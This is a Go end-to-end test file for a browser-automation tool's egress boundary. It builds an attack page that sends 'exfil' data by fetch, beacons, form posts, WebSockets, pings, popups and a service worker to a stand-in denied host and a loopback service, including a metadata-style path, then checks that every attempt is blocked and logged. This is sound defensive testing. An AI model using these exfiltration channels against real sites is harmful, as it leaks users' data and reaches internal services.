package e2e

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromegate/chromegate/internal/testkit"
)

// countingServer is a service a page must never reach: it counts every TCP
// connection made to it (a tunnel, a WebSocket, a beacon — anything), and
// answers HTTP on those that get that far.
type countingServer struct {
	routed   bool // see reached
	port     string
	conns    atomic.Int64
	requests atomic.Int64
	paths    chan string
}

// reached is what a page got through to: connections, or, when the
// session's requests are guarded by Playwright routing rather than the
// egress proxy, requests — routing decides every request, but Chromium
// may still open a TCP connection ahead of one (a preconnect) that it then
// never sends.
func (c *countingServer) reached() int64 {
	if c.routed {
		return c.requests.Load()
	}
	return c.conns.Load()
}

// seen lists the paths requested so far, for a failure message.
func (c *countingServer) seen() []string {
	var out []string
	for {
		select {
		case p := <-c.paths:
			out = append(out, p)
		default:
			return out
		}
	}
}

func newCountingServer(t *testing.T, name string) *countingServer {
	t.Helper()
	ln := testkit.Listen(t)
	c := &countingServer{paths: make(chan string, 100)}
	_, c.port, _ = strings.Cut(ln.Addr().String(), ":")
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.requests.Add(1)
		select {
		case c.paths <- r.URL.Path:
		default:
		}
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprintf(w, "%s secret: internal-%s-data", name, name)
	})}
	go func() { _ = srv.Serve(countingListener{ln, &c.conns}) }()
	t.Cleanup(func() { _ = srv.Close() })
	return c
}

type countingListener struct {
	net.Listener
	n *atomic.Int64
}

func (l countingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		l.n.Add(1)
	}
	return c, err
}

// attackSite serves, on allowed.test, a page that tries every channel a
// page has toward two places the policy denies: other.test (mapped to
// 127.0.0.1 by the resolver rules, so a name pointing inward) and an
// internal service on a loopback port. It also loads its own allowed
// subresources, which must keep working.
func attackSite(t *testing.T, evil, internal string) (port string) {
	mux := http.NewServeMux()
	mux.HandleFunc("/ok.png", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "image/svg+xml")
		fmt.Fprint(w, `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><rect width="40" height="30" fill="red"/></svg>`)
	})
	mux.HandleFunc("/ok.css", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/css")
		fmt.Fprint(w, `#styled{color:rgb(1, 2, 3)}`)
	})
	mux.HandleFunc("/ok.json", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{"ok":true}`)
	})
	mux.HandleFunc("/to-internal", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, internal+"/redirected", http.StatusFound)
	})
	mux.HandleFunc("/attack", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		var b strings.Builder
		b.WriteString(`<!doctype html><html><head><title>Attack</title><link rel="stylesheet" href="/ok.css">`)
		for _, to := range []string{evil, internal} {
			fmt.Fprintf(&b, `<link rel="stylesheet" href="%[1]s/s.css"><link rel="prefetch" href="%[1]s/prefetch"><link rel="preconnect" href="%[1]s"><link rel="icon" href="%[1]s/favicon.ico">`, to)
		}
		b.WriteString(`</head><body><h1 id="styled">attack</h1><img id="ok" src="/ok.png">`)
		for i, to := range []string{evil, internal} {
			fmt.Fprintf(&b, `<iframe src="%[1]s/frame"></iframe><img src="%[1]s/img.png"><script src="%[1]s/x.js"></script>
<video src="%[1]s/v.mp4"></video><a id="ping%[2]d" href="#p" ping="%[1]s/ping">ping</a>
<form id="form%[2]d" method="post" action="%[1]s/form" target="sink%[2]d"><input name="q" value="exfil"></form><iframe name="sink%[2]d"></iframe>`, to, i)
		}
		b.WriteString(`<img src="/to-internal"><script>
window.results = {};
const targets = [` + fmt.Sprintf("%q, %q", evil, internal) + `];
targets.forEach((to, i) => {
  fetch(to + '/fetch').then(r => r.text()).then(t => results['fetch'+i] = t, e => results['fetch'+i] = 'error: ' + e);
  const x = new XMLHttpRequest(); x.open('GET', to + '/xhr'); x.onload = () => results['xhr'+i] = x.responseText; x.onerror = () => results['xhr'+i] = 'error'; x.send();
  navigator.sendBeacon(to + '/beacon', 'exfil');
  try { const ws = new WebSocket(to.replace('http', 'ws') + '/ws'); ws.onerror = () => results['ws'+i] = 'error'; } catch (e) { results['ws'+i] = 'throw'; }
  try { const es = new EventSource(to + '/es'); es.onerror = () => { results['es'+i] = 'error'; es.close(); }; } catch (e) {}
  document.getElementById('ping'+i).click();
  document.getElementById('form'+i).submit();
  new Image().src = to + '/dyn.png';
  window.open(to + '/popup', '_blank');
});
fetch('/ok.json').then(r => r.json()).then(j => results.own = j.ok);
</script></body></html>`)
		fmt.Fprint(w, b.String())
	})
	return serveMux(t, mux)
}

// TestEgressBoundary is the attacker's side of the egress boundary: an
// allowed page whose every channel — frames, images, styles, scripts,
// media, fetch, XHR, beacons, pings, WebSocket, EventSource, form posts,
// prefetch, preconnect, a redirect, popups — reaches for a denied host and
// an internal service. Their counters stay at zero, the page's own
// subresources still load, an eval that fetches the internal service gets
// an error, the popups leave no trace in tabs_list, and the call says what
// was blocked.
func TestEgressBoundary(t *testing.T) {
	testkit.Backends(t, testkit.CDP, testkit.Ext, testkit.Remote)
	testEgressAttack(t, false)
}

// TestEgressRouted is the same attack with requests decided by Playwright
// routing, as for a browser that cannot be given chromegate's proxy (one
// on another machine). Routing does not see redirect hops (the README's
// table says so): the one redirect of the page is the only request that
// may arrive.
func TestEgressRouted(t *testing.T) {
	testkit.Backends(t, testkit.CDP, testkit.Remote)
	testEgressAttack(t, true, "--egress-via=route")
}

func testEgressAttack(t *testing.T, routed bool, flags ...string) {
	internal := newCountingServer(t, "internal")
	evil := newCountingServer(t, "evil")
	internal.routed, evil.routed = routed, routed
	port := attackSite(t, "http://other.test:"+evil.port, "http://127.0.0.1:"+internal.port)
	logPath := filepath.Join(t.TempDir(), "decisions.jsonl")
	s := startServer(t, append([]string{resolverRules, "--allow-domain=allowed.test", "--enable-mutations", "--unsafe-enable-eval",
		"--decision-log=" + logPath}, flags...)...)

	res := s.call("navigate", map[string]any{"url": "http://allowed.test:" + port + "/attack"})
	note := blockedText(res)
	if !strings.Contains(note, "other.test") || !strings.Contains(note, "127.0.0.1") {
		t.Errorf("the navigation's result does not say what was blocked: %q", note)
	}
	// Give the page's scripts, popups and late requests time to try.
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		if s.evalString(`String(['fetch0','fetch1','xhr0','xhr1'].every(k => k in results))`) == "true" {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(500 * time.Millisecond)

	t.Run("no request reached a denied host or the internal service", func(t *testing.T) {
		if n := evil.reached(); n != 0 {
			t.Errorf("the denied host was reached %d times: %v", n, evil.seen())
		}
		n, seen := internal.reached(), internal.seen()
		if routed && n == 1 && len(seen) == 1 && seen[0] == "/redirected" {
			t.Logf("routing let the redirect hop through, as documented")
			n = 0
		}
		if n != 0 {
			t.Errorf("the internal service was reached %d times: %v", n, seen)
		}
	})
	t.Run("denied requests fail in the page as network errors", func(t *testing.T) {
		got := s.evalString(`JSON.stringify(results)`)
		var r map[string]any
		if err := json.Unmarshal([]byte(got), &r); err != nil {
			t.Fatalf("results: %v (%s)", err, got)
		}
		for _, k := range []string{"fetch0", "fetch1", "xhr0", "xhr1"} {
			v, _ := r[k].(string)
			if !strings.HasPrefix(v, "error") {
				t.Errorf("%s = %q, want a network error", k, v)
			}
		}
		if strings.Contains(got, "secret") {
			t.Errorf("the page read a denied service: %s", got)
		}
		if r["own"] != true {
			t.Errorf("the page's own fetch failed: %s", got)
		}
	})
	t.Run("the page's own subresources still load", func(t *testing.T) {
		if got := s.evalString(`String(document.getElementById('ok').naturalWidth)`); got != "40" {
			t.Errorf("the allowed image did not render: naturalWidth %s", got)
		}
		if got := s.evalString(`getComputedStyle(document.getElementById('styled')).color`); got != "rgb(1, 2, 3)" {
			t.Errorf("the allowed stylesheet did not apply: %s", got)
		}
	})
	t.Run("an eval that fetches the internal service gets an error", func(t *testing.T) {
		before := internal.reached()
		got := s.evalString(`fetch('http://127.0.0.1:` + internal.port + `/latest/meta-data').then(r => r.text()).catch(e => 'error: ' + e)`)
		if !strings.HasPrefix(got, "error") || strings.Contains(got, "secret") {
			t.Errorf("eval fetch of the internal service: %q", got)
		}
		if n := internal.reached() - before; n != 0 {
			t.Errorf("the internal service saw %d connections from an eval", n)
		}
	})
	t.Run("popups to denied hosts leave no trace in tabs_list", func(t *testing.T) {
		txt := resultText(s.call("tabs_list", nil))
		for _, leak := range []string{"other.test", "/popup", internal.port, "evil secret", "internal secret"} {
			if strings.Contains(txt, leak) {
				t.Errorf("tabs_list shows %q: %s", leak, txt)
			}
		}
		var list struct {
			Tabs []struct {
				URL string `json:"url"`
			} `json:"tabs"`
			Hidden int `json:"hidden"`
		}
		if err := json.Unmarshal([]byte(jsonPart(txt)), &list); err != nil {
			t.Fatal(err)
		}
		shown := 0
		for _, tb := range list.Tabs {
			if tb.URL != "" {
				shown++
			}
		}
		if shown != 1 || list.Hidden != len(list.Tabs)-1 {
			t.Errorf("want only the attack page's URL listed, the popups by id only: %s", txt)
		}
	})
	t.Run("every denial is in the decision log", func(t *testing.T) {
		f, err := os.Open(logPath)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		var requests, other, local int
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			var raw map[string]any
			if err := json.Unmarshal(sc.Bytes(), &raw); err != nil {
				t.Fatal(err)
			}
			if raw["phase"] != "request" {
				continue
			}
			requests++
			if raw["allow"] != false {
				t.Errorf("an allowed request was logged: %s", sc.Text())
			}
			switch raw["target_host"] {
			case "other.test":
				other++
			case "127.0.0.1":
				local++
			}
		}
		if other == 0 || local == 0 {
			t.Errorf("request denials in the log: %d (other.test %d, 127.0.0.1 %d)", requests, other, local)
		}
	})
}

// TestEgressAddressClasses: a name that resolves to 127.0.0.1 is loopback,
// whatever allowed its name — a wildcard or --unsafe-all-domains never
// reaches it; only an exact listing does.
func TestEgressAddressClasses(t *testing.T) {
	testkit.Backends(t, testkit.CDP, testkit.Remote)
	internal := newCountingServer(t, "internal")
	for _, flag := range []string{"--allow-domain=*.test", "--unsafe-all-domains"} {
		t.Run(flag, func(t *testing.T) {
			s := startServer(t, resolverRules, flag)
			txt := s.fail("POLICY_DENIED", "navigate", map[string]any{"url": "http://other.test:" + internal.port + "/"})
			if !strings.Contains(txt, "other.test") || !strings.Contains(txt, "loopback") {
				t.Errorf("the denial should say other.test is a loopback address: %s", txt)
			}
			if n := internal.reached(); n != 0 {
				t.Errorf("the service behind the name was reached %d times: %v", n, internal.seen())
			}
		})
	}
	t.Run("exactly listed", func(t *testing.T) {
		s := startServer(t, resolverRules, "--allow-domain=other.test")
		if txt := resultText(s.call("navigate", map[string]any{"url": "http://other.test:" + internal.port + "/"})); !strings.Contains(txt, "other.test") {
			t.Fatalf("navigate: %s", txt)
		}
		if got := s.call("get_text", nil); !strings.Contains(resultText(got), "internal secret") {
			t.Errorf("the exactly listed host's page: %s", resultText(got))
		}
	})
}

// TestEgressPolicyFailsClosed: a request-phase rule that runs out of time
// denies at once; the page fails, it does not hang.
func TestEgressPolicyFailsClosed(t *testing.T) {
	testkit.Backends(t, testkit.CDP, testkit.Remote)
	internal := newCountingServer(t, "internal")
	dir := t.TempDir()
	const rego = `package chromegate

decision := {"allow": true, "reasons": []} if input.phase != "request"

decision := {"allow": true, "reasons": []} if {
	input.phase == "request"
	count([x | some x in numbers.range(1, 100000000)]) > 0
}
`
	if err := os.WriteFile(filepath.Join(dir, "p.rego"), []byte(rego), 0o600); err != nil {
		t.Fatal(err)
	}
	s := startServer(t, "--policy="+dir, "--policy-timeout=50ms")
	start := time.Now()
	res := s.try("navigate", map[string]any{"url": "http://127.0.0.1:" + internal.port + "/"})
	took := time.Since(start)
	if !res.IsError || !strings.Contains(resultText(res), "POLICY_DENIED") || !strings.Contains(resultText(res), "policy error") {
		t.Errorf("a request the policy could not decide: %s", resultText(res))
	}
	if n := internal.reached(); n != 0 {
		t.Errorf("the service was reached %d times: %v", n, internal.seen())
	}
	t.Logf("the denied navigation returned after %v", took)
}

// TestEgressServiceWorker: a service worker's own fetches are requests of
// the session like any other. The page (on 127.0.0.1, a secure context,
// allowed exactly) registers a worker that reaches for a denied name and
// an internal port, at install and for the page's own fetches.
func TestEgressServiceWorker(t *testing.T) {
	testkit.Backends(t, testkit.CDP, testkit.Remote)
	internal := newCountingServer(t, "internal")
	evil := newCountingServer(t, "evil")
	targets := fmt.Sprintf("[%q, %q]", "http://other.test:"+evil.port+"/sw", "http://localhost:"+internal.port+"/sw")
	mux := http.NewServeMux()
	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, `const targets = %s;
self.addEventListener('install', e => e.waitUntil(Promise.all(targets.map(u => fetch(u).catch(() => null))).then(() => self.skipWaiting())));
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', e => { if (e.request.url.endsWith('/via-worker')) e.respondWith(fetch(targets[1]).catch(() => new Response('worker fetch failed'))); });`, targets)
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><title>SW</title><script>
window.swState = 'registering';
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => {
  const wait = () => navigator.serviceWorker.controller ? Promise.resolve() : new Promise(r => navigator.serviceWorker.addEventListener('controllerchange', r));
  return wait();
}).then(() => fetch('/via-worker')).then(r => r.text()).then(t => window.swState = t, e => window.swState = 'error: ' + e);
</script>`)
	})
	port := serveMux(t, mux)
	s := startServer(t, resolverRules, "--allow-domain=127.0.0.1", "--unsafe-enable-eval")
	s.call("navigate", map[string]any{"url": "http://127.0.0.1:" + port + "/"})
	var state string
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		if state = s.evalString(`String(window.swState)`); state != "registering" {
			break
		}
	}
	if state != "worker fetch failed" {
		t.Errorf("the page's fetch through its worker: %q, want the worker's fetch to fail", state)
	}
	if n := evil.reached(); n != 0 {
		t.Errorf("the denied host was reached %d times by a service worker: %v", n, evil.seen())
	}
	if n := internal.reached(); n != 0 {
		t.Errorf("the internal service was reached %d times by a service worker: %v", n, internal.seen())
	}
}
